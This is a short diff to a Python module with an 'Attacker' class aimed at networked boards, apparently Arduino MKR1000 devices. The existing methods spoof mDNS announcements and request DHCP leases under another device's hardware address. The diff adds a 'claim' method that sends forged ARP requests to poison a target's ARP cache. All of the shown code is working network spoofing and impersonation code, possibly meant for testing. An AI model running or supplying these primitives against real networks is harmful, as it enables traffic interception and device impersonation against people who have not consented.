@@ -45,7 +45,7 @@ MINUTE = 2.0
 MDNS_MAC, MDNS_ADDRESS, MDNS_PORT = bytes.fromhex("01005e0000fb"), "224.0.0.251", 5353
 BROADCAST_MAC = b"\xff" * 6
 ETHERNET, IP_HEADER = 14, 20
-ETH_P_ALL, ETH_P_IP = 3, 0x0800
+ETH_P_ALL, ETH_P_IP, ETH_P_ARP = 3, 0x0800, 0x0806
 DHCP_REQUEST, DHCP_COOKIE = 3, bytes.fromhex("63825363")
 
 
@@ -111,6 +111,12 @@ class Attacker:
         """Announce a board, as if it did so itself."""
         content = answer(name, address, port, "mkr1000")
         self._send(self._mac, MDNS_MAC, address, MDNS_ADDRESS, MDNS_PORT, MDNS_PORT, content)
+
+    def claim(self, address: str, target: str) -> None:
+        """Ask for the hardware address of a target in the name of an address, which the target remembers then."""
+        arp = struct.pack(">2H2BH", 1, ETH_P_IP, 6, 4, 1) + self._mac + socket.inet_aton(address)
+        arp += bytes(6) + socket.inet_aton(target)
+        self._socket.send(BROADCAST_MAC + self._mac + struct.pack(">H", ETH_P_ARP) + arp)
 
     def request_lease(self, mac: str, address: str) -> None:
         """Ask for an address as the board with a hardware address does when it starts."""
